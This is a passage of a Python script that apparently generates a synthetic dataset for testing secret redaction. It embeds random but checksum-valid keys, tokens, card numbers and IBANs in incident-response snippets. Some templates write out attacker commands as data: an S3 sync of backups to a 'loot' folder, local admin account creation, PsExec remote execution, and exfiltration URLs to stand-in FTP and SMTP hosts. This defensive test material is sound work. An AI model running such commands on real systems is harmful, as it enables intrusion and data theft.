def iban_check(cc, bban):
    num = "".join(str(int(c, 36)) for c in bban + cc + "00")
    return "%02d" % (98 - int(num) % 97)


def v_iban():
    cc = pick(["DE", "GB", "FR", "NL", "BE", "ES", "IT", "AT", "CH", "PL"])
    if cc == "DE":
        bban = rs(DIG, 8) + rs(DIG, 10)
    elif cc == "GB":
        bban = rs(UP, 4) + rs(DIG, 14)
    elif cc == "FR":
        bank, gui, acct = rs(DIG, 5), rs(DIG, 5), rs(DIG, 11)
        key = 97 - ((89 * int(bank) + 15 * int(gui) + 3 * int(acct)) % 97)
        bban = bank + gui + acct + "%02d" % key
    elif cc == "NL":
        bban = pick(["ABNA", "INGB", "RABO", "TRIO", "SNSB"]) + rs(DIG, 10)
    elif cc == "BE":
        first = rs(DIG, 10)
        chk = int(first) % 97 or 97
        bban = first + "%02d" % chk
    elif cc == "ES":
        bank, branch, acct = rs(DIG, 4), rs(DIG, 4), rs(DIG, 10)

        def ctl(digs, w):
            s = 11 - sum(int(a) * b for a, b in zip(digs, w)) % 11
            return {11: 0, 10: 1}.get(s, s)
        d1 = ctl("00" + bank + branch, [1, 2, 4, 8, 5, 10, 9, 7, 3, 6])
        d2 = ctl(acct, [1, 2, 4, 8, 5, 10, 9, 7, 3, 6])
        bban = bank + branch + str(d1) + str(d2) + acct
    elif cc == "IT":
        bban = pick(UP) + rs(DIG, 10) + rs(DIG, 12)
    elif cc == "AT":
        bban = rs(DIG, 16)
    elif cc == "CH":
        bban = rs(DIG, 17)
    else:
        bban = rs(DIG, 24)
    iban = cc + iban_check(cc, bban) + bban
    assert iban_valid(iban) and len(iban) == IBAN_LEN[cc]
    if chance(0.5):
        return " ".join(iban[i:i + 4] for i in range(0, len(iban), 4))
    return iban


def v_ip():
    while True:
        ip = "%d.%d.%d.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
        a = ipaddress.ip_address(ip)
        if a.is_global and not a.is_multicast:
            return ip


def v_jwt():
    alg = pick(["HS256", "RS256", "ES256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = rs(B64U, R.randint(16, 43))
    iat = epoch(rtime())
    pl = {"sub": uuid4(), "iss": pick(["https://sso.corp-idp.net/", "https://login.portal-auth.io", "https://auth.halden-freight.no/realms/staff"]),
          "aud": pick(["portal", "api://hr-app", "mail-gateway", "vpn"]), "iat": iat, "exp": iat + pick([900, 3600, 28800, 86400])}
    if chance(0.5):
        pl["scope"] = pick(["openid profile", "mail.read offline_access", "admin:read", "files.readwrite"])
    if chance(0.4):
        pl["sid"] = hexs(32)
    siglen = {"HS256": 32, "RS256": 256, "ES256": 64}[alg]
    return b64url(json.dumps(hdr, separators=(",", ":")).encode()) + "." + b64url(json.dumps(pl, separators=(",", ":")).encode()) + "." + b64url(rbytes(siglen))


HUMAN_WORDS = ["Kestrel", "Harbor", "Lantern", "Granite", "Velvet", "Falcon", "Copper", "Meadow", "Orbit", "Tundra", "Saffron", "Marble", "Quartz", "Juniper"]


def v_password(url_safe=False):
    if url_safe:
        return rs(ALNUM + "-_~", R.randint(14, 24))
    k = R.randrange(3)
    if k == 0:
        return rs(ALNUM + "!#$%&*+-=?^_", R.randint(12, 22))
    if k == 1:
        return pick(HUMAN_WORDS) + pick(["#", "!", "$", "%", "&"]) + str(R.randint(1990, 2026)) + pick(["", "!", "x", "Q"])
    return "%s-%s-%s-%d" % (pick(HUMAN_WORDS).lower(), pick(HUMAN_WORDS).lower(), pick(HUMAN_WORDS).lower(), R.randint(10, 99))


def v_phone():
    k = R.randrange(14)
    d = lambda n: rdigits(n)
    if k == 0:
        return "+1 (%s) %s-%s" % (pick(["212", "312", "415", "617", "646", "702", "838", "917"]), d(3), rs(DIG, 4))
    if k == 1:
        return "(%s) %s-%s" % (pick(["213", "305", "404", "512", "718", "971"]), d(3), rs(DIG, 4))
    if k == 2:
        return "+44 20 %s %s" % (rdigits(4).replace("7946", "7948"), rs(DIG, 4))
    if k == 3:
        return "+44 7%s %s" % (rs(DIG, 3), rs(DIG, 6))
    if k == 4:
        return "+49 30 %s" % rdigits(8)
    if k == 5:
        return "+49 (0)%s %s %s" % (pick(["89", "40", "69", "211"]), rdigits(4), rs(DIG, 4))
    if k == 6:
        return "+33 6 %s %s %s %s" % (rs(DIG, 2), rs(DIG, 2), rs(DIG, 2), rs(DIG, 2))
    if k == 7:
        return "+34 6%s %s %s %s" % (rs(DIG, 2), rs(DIG, 3), rs(DIG, 2), rs(DIG, 2))
    if k == 8:
        return "+31 6 %s" % rdigits(8)
    if k == 9:
        return "+81 3-%s-%s" % (rdigits(4), rs(DIG, 4))
    if k == 10:
        return "+91 %s %s" % (pick("6789") + rs(DIG, 4), rs(DIG, 5))
    if k == 11:
        return "+55 11 9%s-%s" % (rs(DIG, 4), rs(DIG, 4))
    if k == 12:
        return "+7 495 %s-%s-%s" % (rdigits(3), rs(DIG, 2), rs(DIG, 2))
    return "+82 10-%s-%s" % (rdigits(4), rs(DIG, 4))


def v_url_pw():
    return v_password(url_safe=True)


PEM_KINDS = ["ed25519", "openssh", "ec", "rsa", "openssh", "ec", "rsa8", "ed25519", "openssh", "ec", "rsa"]
_pem_i = [0]


def v_pem():
    k = PEM_KINDS[_pem_i[0] % len(PEM_KINDS)]
    _pem_i[0] += 1
    label, lines = gen_private_key(k)
    return label, lines, k


def pem_block(label, lines, indent="", json_escaped=False):
    nl = "\\n" if json_escaped else "\n"
    body = (nl + indent).join(lines)
    text = "%s-----BEGIN %s-----%s%s%s%s-----END %s-----" % (indent, label, nl, indent, body, nl + indent, label)
    return text, body


# =============================================================== POSITIVES: single-kind templates
# each template: f(v) -> text ; value must appear verbatim
def tl(*fs):
    return list(fs)


def domain_legit():
    return pick(["corp-idp.net", "portal-auth.io", "halden-freight.no", "brightmoor-supply.com"])


POS_T = {
    "anthropic_api_key": tl(
        lambda v: "GitGuardian hit on a public gist from a contractor laptop: `%s` — revoking in the console now, %s" % (v, inc()),
        lambda v: ".env recovered from the web root of %s:\n```\nNODE_ENV=production\nANTHROPIC_API_KEY=%s\nLOG_LEVEL=info\n```" % (lin_host(), v),
        lambda v: "the phishing kit uses an LLM to translate lures, config.py has:\n```python\nclient = anthropic.Anthropic(api_key=\"%s\")\n```" % v,
        lambda v: "browser-extension stealer config (decrypted): `{\"provider\":\"anthropic\",\"apiKey\":\"%s\",\"model\":\"claude\"}`" % v,
        lambda v: "公開リポジトリで漏えいしたキー: %s 失効済みか確認お願いします" % v),
    "aws_access_key_id": tl(
        lambda v: "GuardDuty UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS — access key %s used from outside AWS, role session deployer" % v,
        lambda v: "~/.aws/credentials on %s:\n```\n[default]\naws_access_key_id = %s\nregion = eu-west-1\n```\n(the secret line was already wiped by the attacker)" % (lin_host(), v),
        lambda v: fence(json.dumps({"eventName": "ListBuckets", "eventSource": "s3.amazonaws.com", "userIdentity": {"type": "IAMUser", "userName": "svc-backup", "accessKeyId": v},
                                    "sourceIPAddress": doc_ip(), "eventTime": iso(rtime(), False)}, indent=2), "json"),
        lambda v: "disabling it now: `aws iam update-access-key --access-key-id %s --status Inactive --user-name svc-backup`" % v,
        lambda v: "Schlüssel %s wurde im Stealer-Log gefunden, bitte sofort deaktivieren (%s)" % (v, inc())),
    "aws_secret_access_key": tl(
        lambda v: "credentials file from the build agent:\n```\n[ci]\naws_secret_access_key = %s\n```" % v,
        lambda v: "bash_history on %s:\n```\nexport AWS_SECRET_ACCESS_KEY=%s\naws s3 sync s3://backups-prod ./loot\n```" % (lin_host(), v),
        lambda v: "terraform.tfstate in the public bucket contains `\"secret\": \"%s\"` for aws_iam_access_key.ci" % v,
        lambda v: "the secret for the leaked key was %s, key already deactivated, CloudTrail clean since" % v),
    "credit_card": tl(
        lambda v: "DLP alert PCI-PAN-Outbound (%s): matched %s in attachment statement_%d.xlsx sent to a personal mailbox" % (win_host(), v, R.randint(1, 99)),
        lambda v: "stealer log autofill section:\n```\nCC: %s | EXP: %02d/%02d | HOLDER: [not captured]\n```" % (v, R.randint(1, 12), R.randint(26, 31)),
        lambda v: "carding shop listing from TI matches one of our corporate cards: %s — card blocked via the bank" % v,
        lambda v: "En el volcado apareció la tarjeta %s; avisamos a fraude y la bloquearon" % v),
    "email_address": tl(
        lambda v: "Phish reported via the button. Sender: %s, subject \"Payment advice %d\", attachment %s" % (v, R.randint(1000, 9999), mal_file()),
        lambda v: "MTA log: `%s from=<%s> size=%d nrcpt=%d status=quarantined`" % (iso(rtime()), v, R.randint(2000, 900000), R.randint(1, 40)),
        lambda v: "compromised mailbox %s created an inbox rule \"..\" moving everything from finance into RSS Subscriptions" % v,
        lambda v: "L'expéditeur %s a été bloqué au niveau de la passerelle" % v,
        lambda v: fence(json.dumps({"alert": "Impossible travel", "user_principal_name": v, "risk": "high", "ts": iso(rtime())}, indent=2), "json")),
    "github_classic_pat": tl(
        lambda v: "TruffleHog verified result: GitHub PAT `%s` in commit %s of the detection-rules fork" % (v, hexs(40)),
        lambda v: "runner env dump from the compromised self-hosted runner:\n```\nRUNNER_NAME=%s\nGITHUB_TOKEN=%s\n```" % (lin_host(), v),
        lambda v: "token from the stealer log: %s (scopes repo, workflow) — owner revoked it, we're checking the audit log" % v,
        lambda v: "O token %s apareceu no log do CI, já foi revogado" % v),
    "github_fine_grained_pat": tl(
        lambda v: "secret scanning alert on the infra repo: `%s` (fine-grained, contents:write)" % v,
        lambda v: "the deploy script on %s had `git clone https://x-access-token:${TOKEN}@github.com/org/infra` with TOKEN=%s in the environment" % (lin_host(), v),
        lambda v: "Der Token %s lag im Klartext in der Wiki-Seite, bitte widerrufen" % v,
        lambda v: "found in ~/.config/gh/hosts.yml on the laptop:\n```yaml\ngithub.com:\n    oauth_token: %s\n    git_protocol: https\n```" % v),
    "iban": tl(
        lambda v: "BEC mail text: \"Please update our bank details for all future payments: IBAN %s, effective immediately\" — finance confirmed by phone it's fake" % v,
        lambda v: "Finance held payment of EUR %s to IBAN %s — BEC confirmed, %s" % (format(R.randint(5000, 900000), ","), v, inc()),
        lambda v: "Neue Bankverbindung laut gefälschter Rechnung: %s — Zahlung gestoppt" % v,
        lambda v: "Nieuw rekeningnummer in de valse factuur: %s, melding gedaan bij de bank" % v),
    "ipv4_address": tl(
        lambda v: "C2 beacon every 60s to %s:443 from three hosts, adding to the block list" % v,
        lambda v: fence("#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tduration\n%d.%06d\t%s\t%s\t%d\t%s\t8443\ttcp\t%.3f" % (
            epoch(rtime()), R.randint(0, 999999), zeek_uid(), priv_ip(), R.randint(49152, 65535), v, R.uniform(0.1, 900))),
        lambda v: "impossible travel: sign-in from %s (hosting ASN) 6 minutes after a sign-in from the office" % v,
        lambda v: "perimeter block: `set address block-c2-%d ip-netmask %s/32`" % (R.randint(1, 999), v),
        lambda v: "Блокируем %s на периметре, это адрес из отчёта по %s" % (v, pick(FAMILIES))),
    "jwt": tl(
        lambda v: "proxy log shows the stolen session being replayed:\n```\nGET /api/me HTTP/1.1\nHost: portal.%s\nAuthorization: Bearer %s\n```" % (domain_legit(), v),
        lambda v: "token captured by the AiTM kit (from their results file): %s" % v,
        lambda v: fence(json.dumps({"token_type": "Bearer", "expires_in": 3600, "id_token": v}, indent=2), "json"),
        lambda v: "la cookie de session volée contient le JWT %s, on invalide côté IdP" % v),
    "openai_api_key": tl(
        lambda v: "the stealer exfiltrated a dev's shell profile: `export OPENAI_API_KEY=%s`" % v,
        lambda v: "pastebin monitor hit: `%s` (looks like ours, project soc-copilot)" % v,
        lambda v: "phishing kit translate.php:\n```php\n$key = '%s';\n```" % v,
        lambda v: "泄露的密钥是 %s，已经在控制台吊销" % v),
    "password": tl(
        lambda v: ".env on the compromised web server:\n```\nDB_HOST=db-prod-01\nDB_USER=portal\nDB_PASSWORD=%s\n```" % v,
        lambda v: "temp password for the isolated analysis VM is %s — change it after first login" % v,
        lambda v: "EDR command line on %s: `net user svc_update %s /add` followed by `net localgroup administrators svc_update /add`" % (win_host(), v),
        lambda v: "Sysmon 1: `PsExec64.exe \\\\%s -u CORP\\svc_sql -p %s cmd.exe /c whoami`" % (win_host(), v),
        lambda v: "SIEM LDAP connector config:\n```yaml\nldap:\n  url: ldaps://dc01.corp.internal:636\n  bind_dn: CN=svc_siem,OU=Service,DC=corp,DC=internal\n  bind_password: %s\n```" % v,
        lambda v: "隔離端末のローカル管理者パスワード: %s" % v),
    "phone_number": tl(
        lambda v: "callback phishing: the PDF says to call %s to cancel the \"subscription renewal\"" % v,
        lambda v: "vishing report: caller ID showed %s, claimed to be IT helpdesk and asked for an MFA code" % v,
        lambda v: "smishing sample, sender %s: \"Your parcel is on hold, confirm delivery at %s\"" % (v, defang_url(bad_domain())),
        lambda v: "Der Anrufer gab sich als IT-Support aus, Rückrufnummer %s" % v,
        lambda v: "偽サポート詐欺のポップアップに表示されていた番号: %s" % v),
    "private_key_pem": [],  # handled specially
    "slack_bot_token": tl(
        lambda v: "SOAR bot token pasted in #soc-alerts by mistake: %s — rotating now, message deleted" % v,
        lambda v: "config of the alert forwarder on %s:\n```\nSLACK_BOT_TOKEN=%s\nSLACK_CHANNEL=C0%s\n```" % (lin_host(), v, rs(UP + DIG, 9)),
        lambda v: "attacker used %s (from the stealer log) to read #it-helpdesk via conversations.history" % v,
        lambda v: "Token del bot trovato nel repo pubblico: %s" % v),
    "slack_user_token": tl(
        lambda v: "Slack access log: user token %s used from a new device, workspace admin revoked all sessions" % v,
        lambda v: "stealer log, Slack section: `token=%s`" % v,
        lambda v: "the browser extension stored the user token in localStorage: `{\"slack_token\":\"%s\"}`" % v,
        lambda v: "Токен пользователя %s найден в логе стилера, отозван" % v),
    "url_credentials": tl(
        lambda v: "extracted config: exfil over FTP to `ftp://upl_%s:%s@ftp.%s/in/`" % (rs(LO + DIG, 5), v, pick(["files-sync.xyz", "bkp-store.top", "mirror-cdn.site"])),
        lambda v: "SMTP exfil settings from the stealer build: `smtps://logs-sender:%s@mail.%s:465`" % (v, pick(["eu-postbox.online", "fastmailer.click", "inbox-relay.shop"])),
        lambda v: "DATABASE_URL in the leaked .env: `postgres://portal:%s@db-prod-01.internal:5432/portal`" % v,
        lambda v: "the attacker's own loot bucket was `mongodb+srv://loot:%s@cluster0.%s.mongodb.net/exfil`" % (v, rs(LO + DIG, 5)),
        lambda v: "redis on the webshell host: `REDIS_URL=redis://:%s@cache-01:6379/0`" % v),
    "us_ssn": tl(
        lambda v: "DLP: outbound SMTP to a personal mailbox matched US SSN pattern: %s (HR export, employee record)" % v,
        lambda v: "sample row from the exfiltrated HR file:\n```\nemp_id,dept,ssn,hire_date\nE-%05d,%s,%s,%s\n```" % (R.randint(1, 99999), pick(["Finance", "Payroll", "Sales"]), v, rtime().strftime("%Y-%m-%d")),
        lambda v: "W-2 phishing: one reply to the attacker already contained SSN %s, payroll notified" % v,
        lambda v: fence(json.dumps({"rule": "US_SSN", "match": v, "file": "\\\\fs01\\hr$\\exports\\q%d.csv" % R.randint(1, 4)}, indent=2), "json")),
}


def pem_single(tix):
    label, lines, k = v_pem()
    if tix == 2:
        blk, body = pem_block(label, lines, indent="    ")
        text = ("k8s secret dumped by the attacker (`kubectl get secret deploy-key -o yaml`, values decoded by us):\n```yaml\nstringData:\n  key: |\n%s\n```" % blk)
    elif tix == 3:
        blk, body = pem_block(label, lines, json_escaped=True)
        text = "the stealer's config JSON carries its own key: `{\"c2\":\"%s\",\"key\":\"%s\"}`" % (defang_dom(bad_domain()), blk)
    else:
        blk, body = pem_block(label, lines)
        lead = pick(["found on %s in /tmp/.x/ during triage:" % lin_host(), "TruffleHog hit in the public repo (deploy/key.pem):",
                     "the dev pasted the VPN appliance key into the ticket, here it is so we can confirm the fingerprint before revoking:",
                     "攻撃者のサーバーから回収した鍵:"])
        text = "%s\n```\n%s\n```" % (lead, blk)
    return text, body, "private_key_pem:%s:t%d" % (k, tix)


# =============================================================== POSITIVES: multi-secret templates
def multi(kinds, n):
    a, b = kinds
    if (a, b) == ("aws_access_key_id", "aws_secret_access_key"):
        k, s = v_akid(), v_aws_secret()
        t = [("credentials file from %s (attacker copied it to /tmp):\n```\n[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n```" % (lin_host(), k, s)),
             ("bash_history:\n```\nexport AWS_ACCESS_KEY_ID=%s\nexport AWS_SECRET_ACCESS_KEY=%s\naws sts get-caller-identity\n```" % (k, s)),
             ("stealer log, AWS section: `%s:%s` — both disabled" % (k, s))][n % 3]
        return t, [(a, k), (b, s)], "multi:aws_pair:%d" % n
    if (a, b) == ("email_address", "password"):
        e, p = v_email(), v_password()
        t = [("stealer log entry:\n```\nURL: hxxps://login.microsoftonline[.]com/\nUSER: %s\nPASS: %s\n```" % (e, p)),
             ("AiTM kit results file line: `%s | %s | ua=Mozilla/5.0`" % (e, p)),
             ("user replied to the phish with their creds: login %s, password %s — reset done" % (e, p))][n % 3]
        return t, [(a, e), (b, p)], "multi:stealer_creds:%d" % n
    if (a, b) == ("ipv4_address", "jwt"):
        ip, j = v_ip(), v_jwt()
        t = [("session replay from %s with the stolen token %s" % (ip, j)),
             ("proxy log:\n```\nsrc=%s GET /graph/me Authorization: Bearer %s\n```" % (ip, j))][n % 2]
        return t, [(a, ip), (b, j)], "multi:token_replay:%d" % n
    if (a, b) == ("slack_bot_token", "slack_user_token"):
        bt, ut = v_slack_bot(), v_slack_user()
        t = [("both Slack tokens were in the laptop's dotfiles:\n```\nSLACK_BOT_TOKEN=%s\nSLACK_USER_TOKEN=%s\n```" % (bt, ut)),
             ("revoke list for the workspace admin: bot %s, user %s" % (bt, ut))][n % 2]
        return t, [(a, bt), (b, ut)], "multi:slack_pair:%d" % n
    if (a, b) == ("iban", "phone_number"):
        ib, ph = v_iban(), v_phone()
        t = [("BEC mail: \"our new account is %s, please call our accounts team on %s to confirm\"" % (ib, ph)),
             ("Fake Rechnung: IBAN %s, Rückfragen unter %s" % (ib, ph))][n % 2]
        return t, [(a, ib), (b, ph)], "multi:bec_bank_change:%d" % n
    if (a, b) == ("credit_card", "us_ssn"):
        cc, ss = v_card(), v_ssn()
        t = [("DLP matched two rules in the same attachment: PAN %s and SSN %s" % (cc, ss)),
             ("autofill dump from the stealer: card %s, ssn %s" % (cc, ss))][n % 2]
        return t, [(a, cc), (b, ss)], "multi:dlp_pan_ssn:%d" % n
    if (a, b) == ("github_classic_pat", "github_fine_grained_pat"):
        g1, g2 = v_ghp(), v_ghfg()
        t = [("TruffleHog found two GitHub tokens in the CI cache:\n```\n%s\n%s\n```" % (g1, g2)),
             ("revoke both: classic %s and fine-grained %s" % (g1, g2))][n % 2]
        return t, [(a, g1), (b, g2)], "multi:github_pair:%d" % n
    if (a, b) == ("openai_api_key", "anthropic_api_key"):
        o, c = v_openai(), v_anthropic()
        t = [(".env from the compromised AI dev box:\n```\nOPENAI_API_KEY=%s\nANTHROPIC_API_KEY=%s\n```" % (o, c)),
             ("both LLM keys leaked in the notebook: `%s` and `%s`" % (o, c))][n % 2]
        return t, [(a, o), (b, c)], "multi:llm_keys:%d" % n
    if (a, b) == ("url_credentials", "private_key_pem"):
        pw = v_url_pw()
        label, lines, k = v_pem()
        blk, body = pem_block(label, lines)
        t = ("deploy bundle left on %s: `REPO_URL=https://deploy:%s@git.%s/ops/infra.git` and the key:\n```\n%s\n```" % (lin_host(), pw, pick(["corp-idp.net", "halden-freight.no"]), blk))
        return t, [(a, pw), (b, body)], "multi:deploy_bundle:%s:%d" % (k, n)
    raise ValueError(kinds)


# =============================================================== POSITIVES: build
KIND_ORDER = ["aws_access_key_id", "aws_secret_access_key", "email_address", "password", "ipv4_address", "jwt", "slack_bot_token",
              "slack_user_token", "iban", "phone_number", "credit_card", "us_ssn", "github_classic_pat", "github_fine_grained_pat",
              "openai_api_key", "anthropic_api_key", "url_credentials", "private_key_pem"]
VGEN = {"anthropic_api_key": v_anthropic, "aws_access_key_id": v_akid, "aws_secret_access_key": v_aws_secret, "credit_card": v_card,
        "email_address": v_email, "github_classic_pat": v_ghp, "github_fine_grained_pat": v_ghfg, "iban": v_iban, "ipv4_address": v_ip,
        "jwt": v_jwt, "openai_api_key": v_openai, "password": v_password, "phone_number": v_phone, "slack_bot_token": v_slack_bot,
        "slack_user_token": v_slack_user, "url_credentials": v_url_pw, "us_ssn": v_ssn}


def validate_secret(kind, v):
    if kind == "credit_card":
        d = re.sub(r"[ \-]", "", v)
        assert d.isdigit() and 13 <= len(d) <= 19 and luhn_ok(d), v
    elif kind == "iban":
        assert iban_valid(v), v
    elif kind == "us_ssn":
        a, g, s = v.split("-")
        assert a not in ("000", "666") and not a.startswith("9") and g != "00" and s != "0000", v
    elif kind == "ipv4_address":
        ip = ipaddress.ip_address(v)
        assert ip.is_global and not ip.is_multicast, v
    elif kind == "jwt":
        h, p, _ = v.split(".")
        for part in (h, p):
            json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    elif kind == "private_key_pem":
        raw = re.sub(r"\\n|\s", "", v)
        base64.b64decode(raw, validate=True)
    elif kind == "github_classic_pat":
        body = v[4:34]
        assert v[34:] == b62enc(zlib.crc32(body.encode()) & 0xFFFFFFFF).rjust(6, "0"), v
    elif kind == "aws_access_key_id":
        assert re.fullmatch(r"(AKIA|ASIA)[A-Z2-7]{16}", v) and "EXAMPLE" not in v, v


def residual_hits(text, secrets):
    t = text
    for s in sorted(secrets, key=lambda x: -len(x["value"])):
        t = t.replace(s["value"], "\x00")
    return scan(t)


def build_positives():
    seq = [KIND_ORDER[i % len(KIND_ORDER)] for i in range(170)]
    pairs = [(seq[2 * i], seq[2 * i + 1]) for i in range(20)]
    singles = seq[40:]
    recs = []
    seen = set()
    tcount = {}
    for n, pr in enumerate(pairs):
        for _ in range(200):
            text, secs, ctx = multi(pr, n)
            secrets = [{"kind": k, "value": v} for k, v in secs]
            text = decorate(text, 0.06, 0.04)
            if text in seen or residual_hits(text, secrets):
                continue
            break
        else:
            raise RuntimeError("could not place multi %s" % (pr,))
        seen.add(text)
        recs.append({"text": text, "secrets": secrets, "context": ctx})
    for kind in singles:
        for _ in range(200):
            i = tcount.get(kind, 0)
            if kind == "private_key_pem":
                text, v, ctx = pem_single(i % 4)
            else:
                ts = POS_T[kind]
                tix = i % len(ts)
                v = VGEN[kind]()
                text = ts[tix](v)
                ctx = "%s:t%d" % (kind, tix)
            secrets = [{"kind": kind, "value": v}]
            text = decorate(text, 0.08, 0.04)
            if text in seen or residual_hits(text, secrets):
                continue
            break
        else:
            raise RuntimeError("could not place %s" % kind)
        tcount[kind] = tcount.get(kind, 0) + 1
        seen.add(text)
        recs.append({"text": text, "secrets": secrets, "context": ctx})
    for r in recs:
        for s in r["secrets"]:
            assert s["value"] in r["text"], (s, r["text"])
            validate_secret(s["kind"], s["value"])
    R.shuffle(recs)
    out = []
    for i, r in enumerate(recs, 1):
        out.append({"id": "h%dp-%04d" % (N, i), "text": r["text"], "secrets": r["secrets"], "context": r["context"]})
    return out


# =============================================================== NEGATIVES: build
def build_negatives():
    seen = set()
    recs = []
    redraws = {}
    for cat, temps in NEG_CATS:
        got = 0
        i = 0
        while got < 100:
            f = temps[i % len(temps)]
            i += 1
            ok = False
            for _ in range(300):
                text = decorate(f())
                hits = scan(text)
                if hits:
                    redraws[(cat, f.__name__)] = redraws.get((cat, f.__name__), 0) + 1
                    continue
                if text in seen:
                    continue
                ok = True
                break
            if not ok:
                raise RuntimeError("template %s keeps failing the scanner or repeating" % f.__name__)
            seen.add(text)
            recs.append({"text": text, "category": cat, "template": f.__name__})
            got += 1
    R.shuffle(recs)
    out = []
    for i, r in enumerate(recs, 1):
        out.append({"id": "h%dn-%04d" % (N, i), "text": r["text"], "category": r["category"]})
    return out, recs, redraws


def write_jsonl(path, rows):
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")


def stats(neg_recs, pos):
    from collections import Counter
    print("== negatives per category / templates / lines")
    for cat, temps in NEG_CATS:
        rs_ = [r for r in neg_recs if r["category"] == cat]
        lines = [r["text"].count("\n") + 1 for r in rs_]
        used = len(set(r["template"] for r in rs_))
        print("  %-22s %3d  templates=%2d  lines min/max=%d/%d  multi-line=%d  >=20 lines=%d" % (
            cat, len(rs_), used, min(lines), max(lines), sum(1 for x in lines if x > 1), sum(1 for x in lines if x >= 20)))
    allines = [r["text"].count("\n") + 1 for r in neg_recs]
    print("  single-line=%d  >=10 lines=%d  >=20 lines=%d  max=%d" % (sum(1 for x in allines if x == 1), sum(1 for x in allines if x >= 10),
                                                                      sum(1 for x in allines if x >= 20), max(allines)))
    kinds = Counter(s["kind"] for r in pos for s in r["secrets"])
    print("== positives: texts=%d secrets=%d two-secret texts=%d" % (len(pos), sum(kinds.values()), sum(1 for r in pos if len(r["secrets"]) == 2)))
    for k in sorted(kinds):
        print("  %-25s %d" % (k, kinds[k]))
    sh = Counter()
    for r in neg_recs:
        for x in aws_secret_shapes(r["text"]):
            sh[r["category"]] += 1
    print("== informational: 40-char base64 runs (AWS-secret shape) in negatives by category:", dict(sh))
    doc = Counter()
    for r in neg_recs:
        for tok in ("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "4242", "DE89370400440532013000", "DE89 3704",
                    "GB82WEST12345698765432", "infected", "AROA", "AIDA", "changeme", "guest:guest", "user:password"):
            if tok in r["text"]:
                doc[tok] += 1
    print("== documented exceptions present in negatives (texts):", dict(doc))


def main():
    neg, neg_recs, redraws = build_negatives()
    pos = build_positives()
    write_jsonl(os.path.join(HERE, "redaction%d_negatives.jsonl" % N), neg)
    write_jsonl(os.path.join(HERE, "redaction%d_positives.jsonl" % N), pos)
    # final re-scan of what was written
    bad = [(r["id"], scan(r["text"])) for r in neg if scan(r["text"])]
    assert not bad, bad[:3]
    badp = [(r["id"], residual_hits(r["text"], r["secrets"])) for r in pos if residual_hits(r["text"], r["secrets"])]
    assert not badp, badp[:3]
    assert len(set(r["text"] for r in neg)) == 600 and len(set(r["text"] for r in pos)) == 150
    stats(neg_recs, pos)
    print("== scanner redraws while generating negatives:", sum(redraws.values()), dict(sorted(((k[1], v) for k, v in redraws.items()))))


if __name__ == "__main__":
    main()
